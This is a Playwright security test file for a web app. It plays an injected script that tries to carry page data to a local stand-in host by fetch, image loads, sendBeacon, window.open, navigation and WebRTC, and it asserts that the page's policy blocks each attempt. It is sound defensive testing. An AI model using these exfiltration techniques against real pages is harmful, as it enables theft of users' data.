import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { openApp, type OpenApp } from '../support/browser/open-app'
import { allRefused, refusedByPolicy } from '../support/browser/refused-by-policy'

/**
 * Attacker: a script that got into the page, in the browser.
 * Wants: to carry what the page knows to a host of its own: by a request, by navigating there, over WebRTC; and to run more code, made of
 * text or fetched.
 */

let app: OpenApp
const heard: string[] = []
const host = createServer((request, response) => {
  heard.push(request.url ?? '')
  response.setHeader('access-control-allow-origin', '*').end('heard')
})
let address: string

test.beforeAll(async ({ browser }, testInfo) => {
  await new Promise<void>((done) => host.listen(0, '127.0.0.1', done))
  address = `http://127.0.0.1:${(host.address() as AddressInfo).port}`
  app = await openApp(browser, { dataFolder: testInfo.outputPath('data') })
  await expect(app.hands.at('start-practice')).toBeVisible()
})
test.afterAll(async () => {
  await app.close()
  host.closeAllConnections()
  host.close()
})

test('it makes no markup and no code of text, and fetches none', async () => {
  expect(await refusedByPolicy(app.hands.page)).toEqual(allRefused)
})

test('nor on the page at the door, before anybody has a session', async ({ browser }) => {
  const stranger = await browser.newContext()
  const page = await stranger.newPage()
  await page.goto(new URL('/', app.hands.page.url()).href)
  await expect(page.locator('#app')).toHaveCount(0)
  expect(await refusedByPolicy(page)).toEqual(allRefused)
  await stranger.close()
})

test('it finds no way over WebRTC, in a browser that can close it', async () => {
  const { page } = app.hands
  /** The outcome of a connection between two ends, each of which needs a way out of the page. */
  const state = await page.evaluate(async () => {
    const one = new RTCPeerConnection()
    const other = new RTCPeerConnection()
    let candidates = 0
    const connectTo = (end: RTCPeerConnection) => (event: RTCPeerConnectionIceEvent) => {
      if (event.candidate?.candidate) candidates += 1
      void end.addIceCandidate(event.candidate ?? undefined)
    }
    one.onicecandidate = connectTo(other)
    other.onicecandidate = connectTo(one)
    one.createDataChannel('out')
    const settled = new Promise<string>((done) => {
      one.oniceconnectionstatechange = () =>
        ['connected', 'completed', 'failed'].includes(one.iceConnectionState) && done(one.iceConnectionState)
      const onGathered = (): void => {
        const isGathered = [one, other].every((end) => end.iceGatheringState === 'complete')
        if (isGathered && candidates === 0) done('no candidates')
      }
      one.onicegatheringstatechange = onGathered
      other.onicegatheringstatechange = onGathered
    })
    await one.setLocalDescription()
    await other.setRemoteDescription(one.localDescription as RTCSessionDescription)
    await other.setLocalDescription()
    await one.setRemoteDescription(other.localDescription as RTCSessionDescription)
    return settled
  })
  expect(['failed', 'no candidates']).toContain(state)
})

test('no request and no navigation reaches its host', async ({ browser }) => {
  const { page } = app.hands
  await page.evaluate((to) => fetch(`${to}/asked`).catch(() => undefined), address)
  await page.evaluate((to) => {
    new Image().src = `${to}/image`
    navigator.sendBeacon(`${to}/beacon`, 'text')
    open(`${to}/window`)
  }, address)
  await page.evaluate((to) => (location.href = `${to}/navigated`), address).catch(() => undefined)
  // A page that may ask the host is heard by it, after whatever was sent before.
  const outside = await browser.newContext()
  await (await outside.newPage()).goto(`${address}/control`)
  await outside.close()
  expect(heard.filter((path) => path !== '/favicon.ico')).toEqual(['/control'])
})
